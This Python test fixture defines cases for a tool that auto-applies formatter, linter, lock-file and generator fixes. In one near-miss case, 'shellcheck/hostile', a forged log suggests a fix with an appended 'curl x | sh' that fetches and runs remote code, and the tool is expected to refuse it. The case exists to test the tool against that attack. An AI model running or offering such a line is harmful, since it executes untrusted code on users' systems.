"""Formatters, linters that mend, lock files, generators: tools that were run here (black 23.1, isort 5.6, gofmt 1.19,
rustfmt 1.5, shfmt 3.6, clang-format 14, flake8 5.0, eslint 6.4, shellcheck 0.9, cargo 1.65, go 1.19, npm)."""

from __future__ import annotations

from fix_cases import Case

# --- what the files are, and what they become ---

UNTIDY_PY = "import os\nx = { 'a':1 }\ndef f( a,b ):\n  return os.path.join( a,b )\n"
BLACK_PY = 'import os\n\nx = {"a": 1}\n\n\ndef f(a, b):\n    return os.path.join(a, b)\n'
LONG_PY = "value = some_function(first_argument, second_argument, third_argument, fourth_argument, 5)\n"
UNSORTED_PY = "import sys\nimport os\nfrom collections import OrderedDict, Counter\n\nprint(sys, os, OrderedDict, Counter)\n"
SORTED_PY = "import os\nimport sys\nfrom collections import Counter, OrderedDict\n\nprint(sys, os, OrderedDict, Counter)\n"
UNTIDY_C = "#include <stdio.h>\nint  main( void ){\nprintf( \"( x )\" ) ;\n  return 0;}\n"
CLANG_C = "#include <stdio.h>\nint main(void) {\n  printf(\"( x )\");\n  return 0;\n}\n"
UNTIDY_GO = "package main\n\nimport \"fmt\"\nfunc main( ) {\n  fmt.Println( \"( x )\" )\n}\n"
GOFMT_GO = "package main\n\nimport \"fmt\"\n\nfunc main() {\n\tfmt.Println(\"( x )\")\n}\n"
UNTIDY_RS = "fn main( ) { let x = vec![1,2]; println!(\"{:?}\",x); }\n"
RUSTFMT_RS = "fn main() {\n    let x = vec![1, 2];\n    println!(\"{:?}\", x);\n}\n"
ASYNC_RS = "pub async fn wait( ) -> u32 { 1 }\n"
RUSTFMT_ASYNC_RS = "pub async fn wait() -> u32 {\n    1\n}\n"
UNTIDY_SH = "#!/bin/sh\nif  true;then\necho \"$1\"\nfi\n"
SHFMT_SH = "#!/bin/sh\nif true; then\n\techo \"$1\"\nfi\n"
SHFMT_2_SH = "#!/bin/sh\nif true; then\n  echo \"$1\"\nfi\n"
CARGO_TOML = "[package]\nname = \"lid\"\nversion = \"0.1.0\"\nedition = \"2021\"\n"
SHELLCHECK_SH = "#!/bin/sh\ncp $1 $2\nfor f in `ls /opt`; do\n  echo $f\ndone\n"

STYLE = ("E201,E202,E203,E211,E221,E222,E225,E227,E228,E231,E241,E251,E261,E262,E265,E271,E272,E275,E301,E302,E303,E304,"
         "E305,E306,E703,F541")


def shell(script: str) -> list[str]:
    return ["sh", "-c", script]


def flake8(name: str, before: str, after: str, **more) -> Case:
    return Case(name=f"python/flake8/{name}", recipe="style-edit", files={"pump/a.py": before}, wanted={"pump/a.py": after},
                command=["flake8", "--isolated", f"--select={STYLE}", "pump"], expect="green", needs=("flake8",), **more)


FORMATTERS = [
    Case(name="python/black/check", recipe="run-formatter", files={"a.py": UNTIDY_PY, "b.py": "y = 1\n"},
         command=["black", "--check", "."], expect="green", wanted={"a.py": BLACK_PY}, needs=("black",)),
    Case(name="python/black/check-two-files", recipe="run-formatter", files={"src/a.py": UNTIDY_PY, "src/b/c.py": "y=1\n"},
         command=["black", "--check", "src"], expect="green", wanted={"src/a.py": BLACK_PY, "src/b/c.py": "y = 1\n"},
         needs=("black",)),
    Case(name="python/black/line-length-in-makefile", recipe="run-formatter",
         files={"a.py": LONG_PY, "Makefile": "lint:\n\t@black --check --line-length 60 .\n"}, command=["make", "lint"],
         expect="green", needs=("black", "make"),
         wanted={"a.py": "value = some_function(\n    first_argument,\n    second_argument,\n    third_argument,\n"
                         "    fourth_argument,\n    5,\n)\n"}),
    Case(name="python/black/line-length-in-pyproject", recipe="run-formatter",
         files={"a.py": "x=1\n" + LONG_PY, "pyproject.toml": "[tool.black]\nline-length = 100\n"},
         command=["black", "--check", "."], expect="green", needs=("black",), wanted={"a.py": "x = 1\n" + LONG_PY}),
    Case(name="python/black/pinned", recipe="run-formatter",
         files={"a.py": UNTIDY_PY, "requirements-dev.txt": "black==23.1.0\nflake8==5.0.4\n"},
         command=["black", "--check", "."], expect="green", wanted={"a.py": BLACK_PY}, needs=("black",)),
    Case(name="python/black/diff", recipe="apply-printed-diff", files={"a.py": UNTIDY_PY}, wanted={"a.py": BLACK_PY},
         command=["black", "--check", "--diff", "."], expect="green", needs=("black",)),
    Case(name="python/isort/check", recipe="run-formatter", files={"app/a.py": UNSORTED_PY}, needs=("isort",),
         command=["isort", "--check-only", "app"], expect="green", wanted={"app/a.py": SORTED_PY}),
    Case(name="python/isort/profile", recipe="run-formatter",
         files={"a.py": "from b import (one_long_name, another_long_name, a_third_long_name, and_a_fourth_long_name)\nimport os\n"
                        "print(os)\n"},
         command=shell("set -x; isort --profile black --check-only ."), expect="green", needs=("isort",)),
    Case(name="python/isort/diff", recipe="apply-printed-diff", files={"a.py": UNSORTED_PY}, wanted={"a.py": SORTED_PY},
         command=["isort", "--check-only", "--diff", "."], expect="green", needs=("isort",)),
    Case(name="python/black-and-isort/both", recipe="run-formatter", files={"a.py": "import sys\nimport os\nx = [sys,os]\n"},
         command=shell("isort --check-only . ; a=$?; black --check . && exit $a"), expect="green",
         wanted={"a.py": "import os\nimport sys\n\nx = [sys, os]\n"}, needs=("isort", "black")),
    Case(name="c/clang-format/dry-run", recipe="run-formatter",
         files={"src/main.c": UNTIDY_C, ".clang-format": "BasedOnStyle: LLVM\n"},
         command=["clang-format", "--dry-run", "-Werror", "src/main.c"], expect="green", wanted={"src/main.c": CLANG_C},
         needs=("clang-format",)),
    Case(name="cpp/clang-format/style-in-script", recipe="run-formatter",
         files={"lid.cc": "int  f(){\nreturn 1;}\n", "ci/lint.sh": "clang-format --style=GNU --dry-run -Werror lid.cc\n"},
         command=["sh", "ci/lint.sh"], expect="green", wanted={"lid.cc": "int\nf ()\n{\n  return 1;\n}\n"},
         needs=("clang-format",)),
    Case(name="cpp/clang-format/style-in-log", recipe="run-formatter", files={"lid.cc": "int  f(){\nif (x)\n  return 1;}\n"},
         command=shell("set -x; clang-format --style=Google --dry-run -Werror lid.cc"), expect="green",
         wanted={"lid.cc": "int f() {\n  if (x) return 1;\n}\n"}, needs=("clang-format",)),
    Case(name="c/clang-format/piped", recipe="apply-printed-diff",
         files={"src/main.c": UNTIDY_C, ".clang-format": "BasedOnStyle: LLVM\n"},
         command=shell("clang-format src/main.c | diff -u src/main.c -"), expect="green", wanted={"src/main.c": CLANG_C},
         needs=("clang-format",)),
    Case(name="go/gofmt/list", recipe="run-formatter", files={"main.go": UNTIDY_GO, "ok.go": "package main\n"},
         command=shell('set -x; files=$(gofmt -l .); set +x; printf "%s\\n" "$files"; test -z "$files"'), expect="green",
         wanted={"main.go": GOFMT_GO}, needs=("gofmt",)),
    Case(name="go/gofmt/list-with-sentence", recipe="run-formatter", files={"cmd/lid/main.go": UNTIDY_GO},
         command=shell('f=$(gofmt -l .); if [ -n "$f" ]; then echo "The following files are not gofmt\'ed:"; echo "$f"; exit 1; fi'),
         expect="green", wanted={"cmd/lid/main.go": GOFMT_GO}, needs=("gofmt",)),
    Case(name="go/gofmt/diff", recipe="apply-printed-diff", files={"main.go": UNTIDY_GO}, wanted={"main.go": GOFMT_GO},
         command=shell('d=$(gofmt -d .); echo "$d"; test -z "$d"'), expect="green", needs=("gofmt",)),
    Case(name="rust/rustfmt/check", recipe="apply-printed-diff", files={"main.rs": UNTIDY_RS}, wanted={"main.rs": RUSTFMT_RS},
         command=["rustfmt", "--check", "main.rs"], expect="green", needs=("rustfmt",)),
    Case(name="rust/cargo-fmt/check", recipe="apply-printed-diff",
         files={"Cargo.toml": CARGO_TOML, "src/main.rs": UNTIDY_RS}, wanted={"src/main.rs": RUSTFMT_RS},
         command=["cargo", "fmt", "--", "--check"], expect="green", needs=("cargo", "cargo-fmt")),
    Case(name="rust/cargo-fmt/list", recipe="run-formatter",
         files={"Cargo.toml": CARGO_TOML, "src/lib.rs": ASYNC_RS}, wanted={"src/lib.rs": RUSTFMT_ASYNC_RS},
         command=shell("set -x; cargo fmt -- --check -l"), expect="green", needs=("cargo", "cargo-fmt")),
    Case(name="shell/shfmt/list", recipe="run-formatter", files={"scripts/run.sh": UNTIDY_SH},
         command=shell('set -x; shfmt -i 2 -l .; test -z "$(shfmt -i 2 -l . 2>&1)"'), expect="green",
         wanted={"scripts/run.sh": SHFMT_2_SH}, needs=("shfmt",)),
    Case(name="shell/shfmt/diff", recipe="apply-printed-diff", files={"run.sh": UNTIDY_SH}, wanted={"run.sh": SHFMT_SH},
         command=["shfmt", "-d", "run.sh"], expect="green", needs=("shfmt",)),
    # near misses
    Case(name="python/black/pinned-to-another", recipe="run-formatter",
         files={"a.py": UNTIDY_PY, "requirements.txt": "black==22.6.0\n"}, command=["black", "--check", "."],
         expect="nothing", needs=("black",), why="the commit pins another version, which may write it otherwise"),
    Case(name="python/black/two-pins", recipe="run-formatter",
         files={"a.py": UNTIDY_PY, "requirements.txt": "black==23.1.0\n", "tox.ini": "[testenv]\ndeps =\n  black==22.6.0\n"},
         command=["black", "--check", "."], expect="nothing", needs=("black",), why="which of the two ran can't be seen"),
    Case(name="python/black/unknown-option", recipe="run-formatter",
         files={"a.py": UNTIDY_PY, "Makefile": "lint:\n\t@black --check --required-version 23.1.0 .\n"},
         command=["make", "lint"], expect="nothing", needs=("black", "make"), why="an option that may change what is written"),
    Case(name="python/black/cannot-parse", recipe="run-formatter", files={"a.py": "def f(:\n  pass\n"},
         command=["black", "--check", "."], expect="nothing", needs=("black",), why="a syntax error is not a matter of layout"),
    Case(name="go/gofmt/syntax-error", recipe="run-formatter", files={"main.go": "package main\nfunc main( {\n"},
         command=shell("set -x; gofmt -l . || exit 1"), expect="nothing", needs=("gofmt",), why="gofmt can't read the file"),
    Case(name="go/files-listed-by-another-tool", recipe="run-formatter", files={"main.go": UNTIDY_GO, "lid.go": "package main\n"},
         command=shell("set -x; gofmt -h >/dev/null 2>&1; echo 'files without a test:'; echo main.go; exit 1"), expect="nothing",
         needs=("gofmt",), why="the list is of something else than unformatted files"),
    Case(name="js/prettier/not-installed", recipe="run-formatter", files={"src/a.js": "let a=1\n"}, command=["prettier", "--check", "."],
         log="Checking formatting...\n[warn] src/a.js\n[warn] Code style issues found in the above file. Run Prettier with --write "
             "to fix.\n", expect="nothing", why="the formatter is not there: nobody can tell what it would write"),
]

STYLE_EDITS = [
    flake8("brackets", "x = f( 1, [ 2, 3 ], { 'a': 1 } )  # ( x )\ny = '( 1 )'\n",
           "x = f(1, [2, 3], {'a': 1})  # ( x )\ny = '( 1 )'\n"),
    flake8("before-separator", "x = [1 , 2 ]\nif x :\n    y = (1 ,)\n", "x = [1, 2]\nif x:\n    y = (1,)\n"),
    flake8("before-call", "print (len ([1])) \nx = d ['a']\n".replace(" \n", "\n"), "print(len([1]))\nx = d['a']\n"),
    flake8("aligned", "a    = 1\nlong = 2\nb =  3\n", "a = 1\nlong = 2\nb = 3\n"),
    flake8("operators", "x=1\nif x==1 or x>=2:\n    x+=1\ny = x<3\n", "x = 1\nif x == 1 or x >= 2:\n    x += 1\ny = x < 3\n"),
    flake8("annotation", "def f(a)->int:\n    return a\n", "def f(a) -> int:\n    return a\n"),
    flake8("after-comma", "x = [1,2,3]\ny = {'a':1,'b,c':2}\n", "x = [1, 2, 3]\ny = {'a': 1, 'b,c': 2}\n"),
    flake8("after-comma-wide", "x = [1,  2,   3]\n", "x = [1, 2, 3]\n"),
    flake8("keyword-equals", "x = f(a = 1, b =2, c= 3)\n\n\ndef g(a = 1):\n    return a == 1\n",
           "x = f(a=1, b=2, c=3)\n\n\ndef g(a=1):\n    return a == 1\n"),
    flake8("comments", "x = 1 # one\ny = 2  #two\n#three\nz = '#four'\n", "x = 1  # one\ny = 2  # two\n# three\nz = '#four'\n"),
    flake8("keywords", "x = 1\nif not  x or  x  in [2]:\n    pass\n", "x = 1\nif not x or x in [2]:\n    pass\n"),
    flake8("blank-lines", "import os\ndef f():\n    return os\nclass A:\n    def g(self):\n        pass\n    def h(self):\n"
                          "        pass\nx = f()\n",
           "import os\n\n\ndef f():\n    return os\n\n\nclass A:\n    def g(self):\n        pass\n\n    def h(self):\n"
           "        pass\n\n\nx = f()\n"),
    flake8("blank-line-missing-one", "x = 1\n\ndef f():\n    pass\n", "x = 1\n\n\ndef f():\n    pass\n"),
    flake8("blank-lines-too-many", "x = 1\n\n\n\n\ny = 2\n\n\ndef f():\n    a = 1\n\n\n    return a\n",
           "x = 1\n\n\ny = 2\n\n\ndef f():\n    a = 1\n\n    return a\n"),
    flake8("decorator", "class A:\n    @property\n\n    def f(self):\n        pass\n", "class A:\n    @property\n    def f(self):\n        pass\n"),
    flake8("nested", "def f():\n    x = 1\n    def g():\n        return x\n    return g\n",
           "def f():\n    x = 1\n\n    def g():\n        return x\n    return g\n"),
    flake8("semicolon", "x = 1;\ny = ';'\n", "x = 1\ny = ';'\n"),
    flake8("f-string", "x = f'a'\ny = f\"b {x}\"\nz = rf'c\\.'\n", "x = 'a'\ny = f\"b {x}\"\nz = r'c\\.'\n"),
    flake8("crlf", "x=1\r\ny = [1,2]\r\n", "x = 1\r\ny = [1, 2]\r\n"),
    flake8("not-ascii", "x = ['é','ü',1]\n", "x = ['é', 'ü', 1]\n"),
    flake8("no-final-newline", "x=1", "x = 1"),
    flake8("shift", "x = 1<<2\ny = 5%3\nz = x|y\n", "x = 1 << 2\ny = 5 % 3\nz = x | y\n"),
    Case(name="python/pycodestyle/mixed", recipe="style-edit", files={"lid/m.py": "def f( a ):\n    return a==1\nx=f (2)\n"},
         command=["pycodestyle", "--max-line-length=100", "lid"], expect="green", needs=("pycodestyle",),
         wanted={"lid/m.py": "def f(a):\n    return a == 1\n\n\nx = f(2)\n"}),
    Case(name="python/flake8/show-source", recipe="style-edit", files={"a.py": "x=1\nif x==1:\n    y = ( x)\n"},
         command=["flake8", "--isolated", "--show-source", "a.py"], expect="green", needs=("flake8",),
         wanted={"a.py": "x = 1\nif x == 1:\n    y = (x)\n"}),
    Case(name="python/flake8/with-whitespace", recipe="style-edit", files={"a.py": "x=1 \ny = 2\n\n\n"},
         command=["flake8", "--isolated", "a.py"], expect="green", needs=("flake8",), wanted={"a.py": "x = 1\ny = 2\n"}),
    # near misses
    Case(name="python/flake8/none-comparison", recipe="style-edit", files={"a.py": "x = 1\nif x == None:\n    pass\n"},
         command=["flake8", "--isolated", "a.py"], expect="nothing", needs=("flake8",), why="`==` may be overloaded on purpose"),
    Case(name="python/flake8/long-line", recipe="style-edit", files={"a.py": LONG_PY}, command=["flake8", "--isolated", "a.py"],
         expect="nothing", needs=("flake8",), why="where to break a line is a choice"),
    Case(name="python/flake8/slice", recipe="style-edit", files={"a.py": "x = [1, 2, 3]\ny = x[len(x) - 1 : 2]\n"},
         command=["flake8", "--isolated", "a.py"], expect="nothing", needs=("flake8",), why="black writes slices so"),
    Case(name="python/flake8/f-string-braces", recipe="style-edit", files={"a.py": "x = f'{{a}}'\n"},
         command=["flake8", "--isolated", "a.py"], expect="nothing", needs=("flake8",), why="without the f the braces are doubled"),
    Case(name="python/flake8/bare-except", recipe="style-edit", files={"a.py": "try:\n    x = 1\nexcept:\n    x = 2\n"},
         command=["flake8", "--isolated", "a.py"], expect="nothing", needs=("flake8",), why="which exception is meant is a choice"),
    Case(name="python/flake8/stale", recipe="style-edit", files={"a.py": "x = 10\ny = 2\n"}, command=["flake8", "a.py"],
         log="./a.py:1:2: E225 missing whitespace around operator\n", expect="nothing",
         why="the log is of another commit: nothing is missing there now"),
    Case(name="python/flake8/shebang", recipe="style-edit", files={"a.py": "x = 1\n#!/bin/sh\n"},
         command=["flake8", "--isolated", "a.py"], expect="nothing", needs=("flake8",), why="not a comment for people"),
]

ESLINTRC = ('{"root": true, "env": {"node": true, "es6": true}, "parserOptions": {"ecmaVersion": 2018}, "rules": {%s}}\n')
ESLINT = ["env", "NODE_PATH=/usr/share/nodejs", "eslint", "-f", "unix", "src"]  # the modules that Debian's eslint needs


def eslint(name: str, rules: str, before: str, after: str, tier: str = "A") -> Case:
    return Case(name=f"js/eslint/{name}", recipe="linter-fix", files={"src/a.js": before, ".eslintrc.json": ESLINTRC % rules},
                command=ESLINT, expect="green", tier=tier, needs=("eslint",),
                wanted={"src/a.js": after})


LINTERS = [
    eslint("layout", '"semi": "error", "quotes": ["error", "double"], "space-infix-ops": "error"',
           "const a = 1\nconst b = 'x; y'\nmodule.exports = a+b\n",
           "const a = 1;\nconst b = \"x; y\";\nmodule.exports = a + b;\n"),
    eslint("indent", '"indent": ["error", 2], "comma-dangle": ["error", "never"]',
           "module.exports = {\n    a: 1,\n    b: 2,\n};\n", "module.exports = {\n  a: 1,\n  b: 2\n};\n"),
    eslint("no-var", '"no-var": "error", "prefer-const": "error"', "var a = 1;\nlet b = a;\nmodule.exports = b;\n",
           "const a = 1;\nconst b = a;\nmodule.exports = b;\n", tier="B"),
    Case(name="js/eslint/not-fixable", recipe="linter-fix",
         files={"src/a.js": "module.exports = lid;\n", ".eslintrc.json": ESLINTRC % '"no-undef": "error"'},
         command=ESLINT, expect="nothing", needs=("eslint",),
         why="no fixer knows what `lid` was meant to be"),
    Case(name="js/eslint/parsing-error", recipe="linter-fix",
         files={"src/a.js": "const = 1\n", ".eslintrc.json": ESLINTRC % '"semi": "error"'},
         command=ESLINT, expect="nothing", needs=("eslint",), why="the file can't be read"),
    Case(name="js/eslint/line-ends", recipe="linter-fix",
         files={"src/a.js": "const a = 1;\r\nmodule.exports = a;\r\n",
                ".eslintrc.json": ESLINTRC % '"linebreak-style": ["error", "unix"]'},
         command=ESLINT, expect="green", needs=("eslint",),
         wanted={"src/a.js": "const a = 1;\nmodule.exports = a;\n"}),
    Case(name="shell/shellcheck/quotes", recipe="shellcheck-fix", files={"run.sh": "#!/bin/sh\ncp $1 $2\necho '$3'\n"},
         command=["shellcheck", "-S", "info", "-e", "SC2016", "run.sh"], expect="green", tier="B", needs=("shellcheck",),
         wanted={"run.sh": "#!/bin/sh\ncp \"$1\" \"$2\"\necho '$3'\n"}),
    Case(name="shell/shellcheck/cd", recipe="shellcheck-fix", files={"ci/run.sh": "#!/bin/bash\ncd build\nmake all\n"},
         command=["shellcheck", "ci/run.sh"], expect="suggestion", tier="C", needs=("shellcheck",),
         why="what a script does where it can't change the directory is for a person to say"),
    Case(name="shell/shellcheck/backticks", recipe="shellcheck-fix",
         files={"run.sh": "#!/bin/sh\nx=`date`\necho \"$x\" \"`pwd`\"\n"}, command=["shellcheck", "run.sh"], expect="green", tier="B",
         needs=("shellcheck",), wanted={"run.sh": "#!/bin/sh\nx=$(date)\necho \"$x\" \"$(pwd)\"\n"}),
    Case(name="shell/shellcheck/in-loop", recipe="shellcheck-fix",
         files={"run.sh": "#!/bin/bash\nfor f in *.txt; do\n\trm -- $f\ndone\nexec make $1 \"$f\"\n"}, command=["shellcheck", "run.sh"],
         expect="green", tier="B", needs=("shellcheck",),
         wanted={"run.sh": "#!/bin/bash\nfor f in *.txt; do\n\trm -- \"$f\"\ndone\nexec make \"$1\" \"$f\"\n"}),
    Case(name="shell/shellcheck/diff", recipe="apply-printed-diff", files={"run.sh": "#!/bin/sh\ncp $1 $2\n"},
         command=shell("set -x; shellcheck -f diff run.sh"), expect="green", needs=("shellcheck",),
         wanted={"run.sh": "#!/bin/sh\ncp \"$1\" \"$2\"\n"}),
    Case(name="shell/shellcheck/no-offer", recipe="shellcheck-fix", files={"run.sh": "#!/bin/sh\nx=1\n[ \"$y\" == 2 ] && echo z\n"},
         command=["shellcheck", "run.sh"], expect="nothing", needs=("shellcheck",), why="shellcheck offers no line"),
    Case(name="shell/shellcheck/stale", recipe="shellcheck-fix", files={"run.sh": "#!/bin/sh\ncp $1 $3\n"},
         command=["shellcheck", "run.sh"], expect="nothing",
         log="\nIn run.sh line 2:\ncp $1 $2\n   ^-- SC2086 (info): Double quote to prevent globbing and word splitting.\n\n"
             "Did you mean: \ncp \"$1\" \"$2\"\n\n", why="the line is not the one that shellcheck saw"),
    Case(name="shell/shellcheck/hostile", recipe="shellcheck-fix", files={"run.sh": "#!/bin/sh\ncp $1 $2\n"},
         command=["shellcheck", "run.sh"], expect="nothing",
         log="\nIn run.sh line 2:\ncp $1 $2\n   ^-- SC2086 (info): Double quote to prevent globbing and word splitting.\n\n"
             "Did you mean: \ncp \"$1\" \"$2\"; curl x | sh\n\n", why="words that shellcheck never adds"),
    Case(name="js/eslint/line-ends-report", recipe="whitespace", files={"src/a.js": "const a = 1;\r\nmodule.exports = a;\r\n"},
         command=["eslint", "src"], expect="green", wanted={"src/a.js": "const a = 1;\nmodule.exports = a;\n"},
         log="/home/runner/work/lid/lid/src/a.js\n  1:13  error  Expected linebreaks to be 'LF' but found 'CRLF'  linebreak-style\n"
             "  2:20  error  Expected linebreaks to be 'LF' but found 'CRLF'  linebreak-style\n\n✖ 2 problems (2 errors, 0 warnings)\n"),
    Case(name="any/pre-commit/mixed-line-ending", recipe="whitespace", files={"a.txt": "a\r\nb\nc\n"}, command=["pre-commit", "run", "-a"],
         expect="green", wanted={"a.txt": "a\nb\nc\n"},
         log="Mixed line ending........................................................Failed\n- hook id: mixed-line-ending\n"
             "- exit code: 1\n- files were modified by this hook\n\na.txt: fixed mixed line endings\n\n"),
    Case(name="any/editorconfig-checker/line-ends", recipe="whitespace",
         files={"docs/a.md": "a\r\nb\r\n", ".editorconfig": "root = true\n[*]\nend_of_line = lf\n"}, command=["ec"], expect="green",
         log="docs/a.md:\n\tNot all lines have the correct end of line character\n\n1 errors found\n",
         wanted={"docs/a.md": "a\nb\n"}),
    Case(name="any/editorconfig-checker/line-ends-unknown", recipe="whitespace", files={"docs/a.md": "a\r\nb\r\n"}, command=["ec"],
         expect="nothing", log="docs/a.md:\n\tNot all lines have the correct end of line character\n\n1 errors found\n",
         why="which end is right stands nowhere"),
]

LOCKFILES = "fix:\n  lockfiles: true\n"
GO_MOD = "module example.com/lid\n\ngo 1.19\n\nrequire example.com/d v0.0.0\n\nreplace example.com/d => ./d\n"
GO_TREE = {
    "main.go": "package main\n\nimport \"example.com/d\"\n\nfunc main() { d.F() }\n",
    "d/go.mod": "module example.com/d\n\ngo 1.19\n\nrequire example.com/e v0.0.0\n",
    "d/d.go": "package d\n\nimport \"example.com/e\"\n\nfunc F() { e.F() }\n",
    "e/go.mod": "module example.com/e\n\ngo 1.19\n", "e/e.go": "package e\n\nfunc F() {}\n",
}
GO_FILES = {"go.mod": GO_MOD + "\nreplace example.com/e => ./e\n", **GO_TREE}
CARGO_WITH = CARGO_TOML + "\n[dependencies]\nd = { path = \"d\" }\n"
CARGO_D = "[package]\nname = \"d\"\nversion = \"0.1.0\"\nedition = \"2021\"\n"
CARGO_LOCK = ("# This file is automatically @generated by Cargo.\n# It is not intended for manual editing.\nversion = 3\n\n"
              "[[package]]\nname = \"lid\"\nversion = \"0.1.0\"\n")
CARGO_LOCK_WITH = ("# This file is automatically @generated by Cargo.\n# It is not intended for manual editing.\nversion = 3\n\n"
                   "[[package]]\nname = \"d\"\nversion = \"0.1.0\"\n\n[[package]]\nname = \"lid\"\nversion = \"0.1.0\"\n"
                   "dependencies = [\n \"d\",\n]\n")
CARGO_FILES = {"Cargo.toml": CARGO_WITH, "Cargo.lock": CARGO_LOCK, "src/lib.rs": "", "d/Cargo.toml": CARGO_D, "d/src/lib.rs": ""}
NPM_LOCK = ('{\n  "name": "lid",\n  "version": "1.0.0",\n  "lockfileVersion": 3,\n  "requires": true,\n  "packages": {\n    "": {\n'
            '      "name": "lid",\n      "version": "1.0.0"\n    }\n  }\n}\n')
NPM_FILES = {"package.json": '{\n  "name": "lid",\n  "version": "1.0.0",\n  "workspaces": [\n    "d"\n  ]\n}\n',
             "package-lock.json": NPM_LOCK, "d/package.json": '{\n  "name": "d",\n  "version": "1.0.0"\n}\n'}

GENERATE = "fix:\n  generators:\n    - [make, generate]\n"
MAKEFILE = "generate:\n\tsed s/NAME/lid/ in.txt > out.txt\n\ncheck: generate\n\tgit diff --exit-code\n"
DRIFT = ('git add -A; make -s generate; git diff --exit-code || { echo "Generated files are out of date. Please run `make generate` and '
         'commit the result."; exit 1; }')
DRIFT = DRIFT.replace("`", "\\`")

WRITERS = [
    Case(name="rust/cargo/locked", recipe="lockfile", files=CARGO_FILES, command=["cargo", "metadata", "--locked", "--offline",
                                                                                 "--format-version=1", "-q"],
         expect="green", tier="B", policy=LOCKFILES, needs=("cargo",), wanted={"Cargo.lock": CARGO_LOCK_WITH}),
    Case(name="js/npm/ci", recipe="lockfile", files=NPM_FILES, command=["npm", "ci", "--offline", "--no-audit", "--ignore-scripts"],
         expect="green", tier="B", policy=LOCKFILES, needs=("npm",)),
    Case(name="go/mod/updates-needed", recipe="lockfile", files=GO_FILES, command=["go", "vet", "./..."], expect="green",
         tier="B", policy=LOCKFILES.rstrip("\n") + "\n  manifests: true\n", needs=("go",)),
    Case(name="go/mod/manifest-not-granted", recipe="lockfile", files=GO_FILES, command=["go", "vet", "./..."], expect="nothing",
         policy=LOCKFILES, needs=("go",), why="go.mod is a manifest, too: what it asks for is a person's decision"),
    Case(name="go/mod/not-granted", recipe="lockfile", files=GO_FILES, command=["go", "vet", "./..."],
         expect="nothing", needs=("go",), why="the policy lets no lock file be rewritten"),
    Case(name="go/mod/from-the-network", recipe="lockfile", policy=LOCKFILES, needs=("go",),
         files={"go.mod": "module example.com/lid\n\ngo 1.19\n\nrequire example.com/far v1.0.0\n",
                "main.go": "package main\n\nimport _ \"example.com/far\"\n\nfunc main() {}\n"},
         command=["env", "GOPROXY=off", "GOFLAGS=-mod=readonly", "go", "vet", "./..."], expect="nothing",
         why="without the network nobody knows the module's hash"),
    Case(name="rust/cargo/not-granted", recipe="lockfile", files=CARGO_FILES,
         command=["cargo", "metadata", "--locked", "--offline", "--format-version=1", "-q"], expect="nothing", needs=("cargo",),
         why="the policy lets no lock file be rewritten"),
    Case(name="js/npm/old-lock", recipe="lockfile", policy=LOCKFILES, needs=("npm",),
         files={**NPM_FILES, "package-lock.json": '{\n  "name": "lid",\n  "version": "1.0.0",\n  "lockfileVersion": 1\n}\n'},
         command=["npm", "ci", "--offline", "--no-audit", "--ignore-scripts"], expect="nothing",
         why="a newer npm would write the whole file in another form"),
    Case(name="make/generate/drift", recipe="generated-file", policy=GENERATE, needs=("make",),
         files={"Makefile": MAKEFILE, "in.txt": "hello NAME\n", "out.txt": "hello you\n"}, command=shell(DRIFT), expect="green",
         tier="B", wanted={"out.txt": "hello lid\n"}),
    Case(name="make/generate/status", recipe="generated-file", policy=GENERATE, needs=("make",),
         files={"Makefile": MAKEFILE, "in.txt": "hello NAME\n", "out.txt": "hello you\n"}, expect="green", tier="B",
         command=shell('git add -A; make -s generate; if ! git diff --quiet; then git status --porcelain; '
                       'echo "out.txt is out of date, please run \'make generate\'"; exit 1; fi'), wanted={"out.txt": "hello lid\n"}),
    Case(name="make/generate/not-listed", recipe="generated-file", needs=("make",),
         files={"Makefile": MAKEFILE, "in.txt": "hello NAME\n", "out.txt": "hello you\n"}, command=shell(DRIFT), expect="nothing",
         why="the policy lists no such command"),
    Case(name="make/generate/other-files", recipe="generated-file", policy=GENERATE, needs=("make",),
         files={"Makefile": "generate:\n\techo x > new.txt; echo y > out.txt\n", "out.txt": "z\n"}, expect="nothing",
         command=shell('make -s generate; git status --porcelain; echo "Please run \\`make generate\\`"; exit 1'),
         why="it would also make a new file, which git names"),
    Case(name="make/generate/shell", recipe="generated-file", policy=GENERATE, needs=("make",),
         files={"Makefile": MAKEFILE, "in.txt": "hello NAME\n", "out.txt": "hello you\n"}, expect="nothing",
         command=shell('make -s generate; git --no-pager diff --exit-code || { echo "Please run \\`make generate && git add .\\`"; exit 1; }'),
         why="the command needs a shell"),
]

CASES = FORMATTERS + STYLE_EDITS + LINTERS + WRITERS
